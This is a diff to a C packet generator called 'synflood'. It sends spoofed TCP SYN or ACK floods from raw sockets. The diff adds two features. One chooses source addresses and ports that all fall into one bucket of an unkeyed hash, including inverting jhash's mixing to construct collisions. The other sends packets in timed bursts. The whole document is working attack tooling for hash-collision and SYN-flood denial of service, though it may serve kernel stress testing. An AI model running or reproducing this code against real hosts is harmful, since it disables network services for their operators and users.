@@ -10,6 +10,11 @@
  * -x, -I, -D and -f put into each SYN what a listener may have to treat in some
  * way of its own: TCP options, IP options, data, flags.
  *
+ * -C chooses sources that a hash without a secret puts into one chain: "xor" of
+ * the address' and the port's 16-bit words; "low" bits of address and port;
+ * "jhash" of the whole 4-tuple with the initial value 0 (IPv6; laid out as
+ * struct ho_key).
+ *
  * With -q through the qdisc after all: when a device is removed under a sender
  * that goes past it, packet_pick_tx_queue() divides by its number of queues,
  * which is 0 by then (seen on 6.12.117, without halfopen in the trace).
@@ -43,6 +48,7 @@ enum {
 	BLOCK_SIZE	= 64 * 1024,
 	BATCH_MAX	= 32,	/* frames a system call */
 	LINE_NS		= 100 * 1000 * 1000,
+	WAVE_S		= 2,
 	DATA_OFF	= TPACKET2_HDRLEN - sizeof(struct sockaddr_ll),
 	OPTS_MAX	= 40,	/* 15 words less the header, in TCP and IPv4 */
 	DATA_MAX	= 128,
@@ -54,6 +60,8 @@ enum {
 static const uint8_t linux_opts[20] = {
 	2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 0, 0, 0, 0, 0, 0, 0, 1, 3, 3, 7,
 };
+
+enum collide { COLLIDE_NOT, COLLIDE_XOR, COLLIDE_LOW, COLLIDE_JHASH };
 
 struct bytes {
 	uint8_t		b[OPTS_MAX];
@@ -70,6 +78,7 @@ struct flood {
 	uint16_t	port;
 	uint64_t	count;		/* 0: no end */
 	uint64_t	rate;		/* packets per second, 0: no limit */
+	uint64_t	wave;		/* packets, then WAVE_S of rest */
 	uint64_t	seed;
 	struct bytes	opts;		/* of the SYN, a multiple of 4 */
 	bool		linux_opts;	/* begin with linux_opts */
@@ -78,6 +87,7 @@ struct flood {
 	size_t		data_len;
 	uint16_t	flags;		/* beside SYN or ACK, of 12 bits */
 	bool		ack;		/* ACKs instead of SYNs */
+	enum collide	collide;
 	bool		qdisc;
 	bool		verbose;	/* every 100 ms: ms, packets so far */
 };
@@ -144,6 +154,76 @@ static void random_source(const struct flood *f, uint64_t *rnd, uint8_t *addr)
 	}
 }
 
+static uint32_t rol32(uint32_t x, unsigned int shift)
+{
+	return x << shift | x >> (32 - shift);
+}
+
+/* What jhash's mixing of three words began with. */
+static void undo_mix(uint32_t s[3])
+{
+	static const unsigned int shift[] = { 4, 19, 16, 8, 6, 4 };
+	unsigned int i;
+
+	/* x -= z, x ^= rol(z), z += y: backwards, for another x each time */
+	for (i = 0; i < 6; i++) {
+		uint32_t *x = &s[(2 + i * 2) % 3], *y = &s[(i * 2) % 3];
+		uint32_t *z = &s[(1 + i * 2) % 3];
+
+		*z -= *y;
+		*x = (*x ^ rol32(*z, shift[i])) + *z;
+	}
+}
+
+/* Whatever the address' last word is, the other three make up for it. */
+static void collide_jhash(const struct flood *f, uint32_t n, uint8_t *addr)
+{
+	const uint32_t init = 0xdeadbeef + (10 << 2);
+	uint32_t s[3] = { 1, 2, 3 }, dst[2];
+	unsigned int i;
+
+	memcpy(dst, f->dst, sizeof(dst));
+	undo_mix(s);
+	s[0] -= n;
+	s[1] -= dst[0];
+	s[2] -= dst[1];
+	undo_mix(s);
+	for (i = 0; i < 3; i++)
+		s[i] -= init;
+	memcpy(addr, s, sizeof(s));
+	memcpy(addr + sizeof(s), &n, sizeof(n));
+}
+
+/* The n-th source of those that collide; @addr has the prefix. */
+static uint16_t collide(const struct flood *f, uint64_t *n, uint8_t *addr)
+{
+	uint8_t *low = addr + (f->family == AF_INET ? 0 : 12);
+	uint32_t word;
+
+	switch (f->collide) {
+	case COLLIDE_XOR:
+		memcpy(&word, low, 4);
+		word = htonl(ntohl(word) + *n);
+		memcpy(low, &word, 4);
+		word = ntohl(word);
+		++*n;
+		return (word ^ word >> 16) & 0xffff;
+	case COLLIDE_LOW:
+		/* high bits of the host part, then of the port */
+		word = htonl(*n % 512 << 8 | 1);
+		low[1] |= ((uint8_t *)&word)[1];
+		low[2] = ((uint8_t *)&word)[2];
+		low[3] = 1;
+		return 1024 + (++*n / 512 << 4);
+	default:
+		/* an eighth is global unicast, 2000::/3 */
+		do
+			collide_jhash(f, (*n)++, addr);
+		while (addr[0] >> 5 != 1);
+		return 40000;
+	}
+}
+
 static size_t put_ipv4(const struct flood *f, uint8_t *p, const uint8_t *src,
 		       uint64_t rnd, size_t len)
 {
@@ -192,7 +272,8 @@ static size_t put_ip(const struct flood *f, uint8_t *p, const uint8_t *src,
 	       put_ipv6(f, p, src, len);
 }
 
-static size_t put_segment(const struct flood *f, uint64_t *rnd, uint8_t *frame)
+static size_t put_segment(const struct flood *f, uint64_t *rnd, uint64_t *nth,
+			  uint8_t *frame)
 {
 	uint8_t buf[sizeof(struct tcphdr) + OPTS_MAX + DATA_MAX] = {};
 	size_t opt_len = f->ack ? 0 : f->opts.len;
@@ -202,7 +283,7 @@ static size_t put_segment(const struct flood *f, uint64_t *rnd, uint8_t *frame)
 	struct tcphdr tcp = {};
 	uint8_t src[16], *p = frame;
 	uint32_t sum, tsval;
-	uint16_t check;
+	uint16_t check, sport;
 	uint64_t r;
 
 	memcpy(eth.h_dest, &f->mac, 6);
@@ -213,9 +294,14 @@ static size_t put_segment(const struct flood *f, uint64_t *rnd, uint8_t *frame)
 
 	random_source(f, rnd, src);
 	r = next_random(rnd);
+	sport = 1024 + (r >> 16) % (65536 - 1024);
+	if (f->collide) {
+		memcpy(src, f->src, sizeof(src));
+		sport = collide(f, nth, src);
+	}
 	p += put_ip(f, p, src, r, len, &sum);
 
-	tcp.source = htons(1024 + (r >> 16) % (65536 - 1024));
+	tcp.source = htons(sport);
 	tcp.dest = htons(f->port);
 	tcp.seq = htonl(r >> 32);
 	tcp.doff = hlen / 4;
@@ -311,6 +397,7 @@ static unsigned int batch_of(uint64_t rate)
 static void run(const struct flood *f)
 {
 	uint64_t rnd = f->seed, start, sent = 0, now, due, next_line = LINE_NS;
+	uint64_t nth = 0;
 	unsigned int batch = batch_of(f->rate);
 	uint8_t *ring;
 	int fd;
@@ -322,10 +409,15 @@ static void run(const struct flood *f)
 						    FRAME_SIZE);
 
 		wait_frame(fd, hdr);
-		hdr->tp_len = put_segment(f, &rnd, (uint8_t *)hdr + DATA_OFF);
+		hdr->tp_len = put_segment(f, &rnd, &nth,
+					  (uint8_t *)hdr + DATA_OFF);
 		__atomic_store_n(&hdr->tp_status, TP_STATUS_SEND_REQUEST,
 				 __ATOMIC_RELEASE);
 		sent++;
+		if (f->wave && !(sent % f->wave)) {
+			flush_ring(fd);
+			sleep_until(now_ns() + WAVE_S * 1000000000ull);
+		}
 		if (sent % batch)
 			continue;
 		flush_ring(fd);
@@ -398,6 +490,17 @@ static void parse_ip_options(struct flood *f, const char *hex)
 	f->ip_opts.b[1] = f->ip_opts.len / IPV6_UNIT - 1;
 }
 
+static enum collide parse_collide(const char *name)
+{
+	if (!strcmp(name, "xor"))
+		return COLLIDE_XOR;
+	if (!strcmp(name, "low"))
+		return COLLIDE_LOW;
+	if (!strcmp(name, "jhash"))
+		return COLLIDE_JHASH;
+	errx(1, "no collisions of %s", name);
+}
+
 static void parse_options(struct flood *f, const char *tcp, const char *ip)
 {
 	if (f->linux_opts) {
@@ -411,8 +514,10 @@ static void parse_options(struct flood *f, const char *tcp, const char *ip)
 
 static const char usage[] =
 "synflood -i IF -m DST_MAC -S SRC_PREFIX -d DST -p PORT\n"
-"         [-n COUNT] [-r PPS] [-s SEED] [-o none|linux] [-A] [-q] [-v]\n"
-"         [-x HEX] [-I HEX] [-D BYTES] [-f HEX]\n"
+"         [-n COUNT] [-r PPS] [-w WAVE] [-s SEED] [-o none|linux]\n"
+"         [-A] [-q] [-v] [-C HASH] [-x HEX] [-I HEX] [-D BYTES] [-f HEX]\n"
+"  -C xor|low|jhash  sources that collide under such a hash\n"
+"  -w N    in waves of N packets, two seconds between them\n"
 "  -x HEX  further TCP options   -f HEX  TCP flags beside SYN\n"
 "  -I HEX  IPv4 options, or the number of an IPv6 extension header\n"
 "          and the options in it\n"
@@ -426,7 +531,7 @@ int main(int argc, char **argv)
 	int c;
 
 	while ((c = getopt(argc, argv,
-			   "i:m:d:p:n:r:s:S:o:x:I:D:f:Aqv")) != -1) {
+			   "i:m:d:p:n:r:w:s:S:o:x:I:D:f:C:Aqv")) != -1) {
 		switch (c) {
 		case 'i':
 			f.ifname = optarg;
@@ -446,6 +551,9 @@ int main(int argc, char **argv)
 			break;
 		case 'r':
 			f.rate = strtoull(optarg, NULL, 0);
+			break;
+		case 'w':
+			f.wave = strtoull(optarg, NULL, 0);
 			break;
 		case 's':
 			f.seed = strtoull(optarg, NULL, 0);
@@ -469,6 +577,9 @@ int main(int argc, char **argv)
 			break;
 		case 'f':
 			f.flags = strtoul(optarg, NULL, 16);
+			break;
+		case 'C':
+			f.collide = parse_collide(optarg);
 			break;
 		case 'A':
 			f.ack = true;
